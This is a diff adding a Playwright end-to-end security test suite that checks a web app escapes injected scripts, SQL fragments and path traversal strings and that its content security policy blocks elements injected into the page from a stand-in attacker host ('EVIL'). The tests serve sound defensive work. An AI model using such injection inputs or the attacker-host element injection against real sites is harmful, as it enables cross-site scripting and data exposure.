@@ -1,0 +1,91 @@
+"""Text out of logs, contracts and file names, through every page of the real app in Chromium."""
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import expect
+from sqlalchemy import text
+
+from app.nav import ENTRIES
+from core.domain.identity import Role
+from core.services import ingest, registry, users
+from tests.security.conftest import Site, Watched
+from tests.security.hostile import EVIL, MODEL, PAYLOADS, a_hostile_contract
+
+pytestmark = pytest.mark.e2e
+PAGES = [entry.key.replace("_", "-") for entry in ENTRIES if entry.path.is_file()]
+
+
+@pytest.mark.parametrize("page", PAGES)
+def test_every_page_shows_attacks_as_text(visit: Callable[..., Watched], page: str) -> None:
+    """Scripts, images, links, Markdown, TeX and SQL in every text of log, contract and file name.
+
+    The page shows them as text: no dialog, no request to another machine, no element made of them,
+    no complaint of the content security policy.
+    """
+    tab = visit(Role.admin)
+    tab.reader.go(f"{page}?model={MODEL}")
+    expect(tab.reader.heading()).to_have_count(1)
+    tab.reader.settle()
+    tab.assert_unharmed()
+
+
+@pytest.mark.parametrize("parameter", ["model", "version", "slice", "period", "lang", "as_of"])
+def test_attacks_in_the_address(visit: Callable[..., Watched], parameter: str) -> None:
+    """The same attacks in each parameter of the address.
+
+    An unknown value is dropped; nothing of it is run or shown as HTML.
+    """
+    tab = visit(Role.admin)
+    for attack in (PAYLOADS[0], PAYLOADS[1], PAYLOADS[8], "../../state.db", "role=admin"):
+        tab.reader.page.goto(
+            f"{tab.reader.url}/drift?{parameter}=" + attack.replace("&", "%26").replace("#", "%23")
+        )
+        tab.reader.settle()
+    tab.assert_unharmed()
+
+
+def test_what_the_lake_holds_is_what_the_log_said(site: Site) -> None:
+    """SQL fragments as ids, categories, versions, column names and file names.
+
+    All rows are stored and counted, the audit trail still stands, no file appears elsewhere.
+    """
+    workspace = site.hostile.workspace
+    owner = users.actor_of_os_login(workspace, "harbourmaster")
+    batches = ingest.batches(workspace, MODEL, actor=owner)
+    assert [view.batch.rows_stored for view in batches][-1] == 400
+    with workspace.store.read() as conn:
+        assert conn.execute(text("SELECT count(*) FROM audit_entry")).scalar_one() > 0
+    stored = registry.get_model(workspace, MODEL, actor=owner).contract.stored_columns
+    assert set(a_hostile_contract()["features"][2].values()) & set(stored)
+    for alias in stored.values():
+        assert alias.isascii()
+        assert alias.replace("_", "").isalnum()
+        assert alias == alias.lower()
+
+
+def test_the_policy_would_stop_what_escaping_missed(visit: Callable[..., Watched]) -> None:
+    """An image, a script and a style from elsewhere put into the page by hand, as a last line.
+
+    The content security policy refuses all three; no request leaves.
+    """
+    tab = visit(Role.admin)
+    tab.reader.go("overview")
+    tab.reader.page.evaluate(
+        f"""() => {{
+            for (const [name, attribute] of [['img', 'src'], ['script', 'src'], ['link', 'href'],
+                                             ['iframe', 'src']]) {{
+                const element = document.createElement(name);
+                if (name === 'link') element.rel = 'stylesheet';
+                element[attribute] = 'https://{EVIL}/planted';
+                document.body.append(element);
+            }}
+            const inline = document.createElement('script');
+            inline.textContent = 'window.__owned = 1';
+            document.body.append(inline);
+        }}"""
+    )
+    tab.reader.page.wait_for_timeout(500)
+    assert tab.reader.page.evaluate("window.__owned") is None
+    refused = [error for error in tab.reader.errors if "Content Security Policy" in error]
+    assert len(refused) >= 5
